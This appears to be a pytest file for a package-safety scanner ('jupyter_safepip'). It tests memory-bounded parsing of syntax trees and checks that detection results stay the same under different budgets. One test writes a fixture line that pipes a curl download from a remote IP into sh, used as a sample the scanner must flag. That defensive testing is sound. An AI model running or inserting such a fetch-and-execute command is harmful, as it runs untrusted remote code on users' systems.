"""A package's syntax trees and values are let go file by file: memory does not grow with the package's size."""

from __future__ import annotations

import tracemalloc

from jupyter_safepip.core.checks import archive

MODULES = 16
BODY = "".join(f"def f{i}(x, y=1):\n    z = [x + y * {i}, 'text {i}', {{'k': x}}]\n    return helper(z, key=lambda v: v)\n"
               for i in range(150))


def _package(tmp_path):
    root = tmp_path / "bigpkg"
    root.mkdir()
    (root / "__init__.py").write_text("")
    for number in range(MODULES):
        (root / f"mod{number}.py").write_text(f"from . import mod{(number + 1) % MODULES}\n{BODY}")
    return root


def _peak_bytes(root) -> int:
    tracemalloc.start()
    try:
        scan = archive.scan_directory(root)
        return tracemalloc.get_traced_memory()[1] if scan.files_scanned == MODULES + 1 else -1
    finally:
        tracemalloc.stop()


def test_trees_are_let_go_once_read(tmp_path, monkeypatch):
    root = _package(tmp_path)
    monkeypatch.setattr(archive, "MAX_KEPT_TREE_SOURCE_BYTES", 1 << 40)  # every tree waits to be read
    all_kept = _peak_bytes(root)
    monkeypatch.setattr(archive, "MAX_KEPT_TREE_SOURCE_BYTES", 0)  # each is parsed again when read
    one_at_a_time = _peak_bytes(root)
    assert all_kept > 0 and one_at_a_time > 0
    assert one_at_a_time * 3 < all_kept


def test_the_budget_changes_memory_not_findings(tmp_path, monkeypatch):
    root = _package(tmp_path)
    (root / "mod0.py").write_text("import os\nos.system('curl http://203.0.113.9/x | sh')\n")
    monkeypatch.setattr(archive, "MAX_KEPT_TREE_SOURCE_BYTES", 0)
    parsed_again = archive.scan_directory(root).findings
    monkeypatch.setattr(archive, "MAX_KEPT_TREE_SOURCE_BYTES", 1 << 40)
    kept = archive.scan_directory(root).findings
    assert parsed_again == kept
    assert any(f.rule_id.startswith("shell") for f in kept)


def test_each_file_is_parsed_once_within_the_budget(tmp_path, monkeypatch):
    from jupyter_safepip.core.analysis import source

    root = _package(tmp_path)
    parsed: list[int] = []
    real_parse = source.parse

    def counting_parse(data: bytes):
        parsed.append(len(data))
        return real_parse(data)

    monkeypatch.setattr(archive, "parse", counting_parse)
    monkeypatch.setattr(source, "parse", counting_parse)
    assert archive.scan_directory(root).files_scanned == MODULES + 1
    assert len(parsed) == MODULES + 1  # the tree that told what a file imports is the one it is read from
    parsed.clear()
    monkeypatch.setattr(archive, "MAX_KEPT_TREE_SOURCE_BYTES", 0)
    archive.scan_directory(root)
    assert len(parsed) == 2 * MODULES + 1  # past the budget, read again (the empty __init__ waits within any budget)
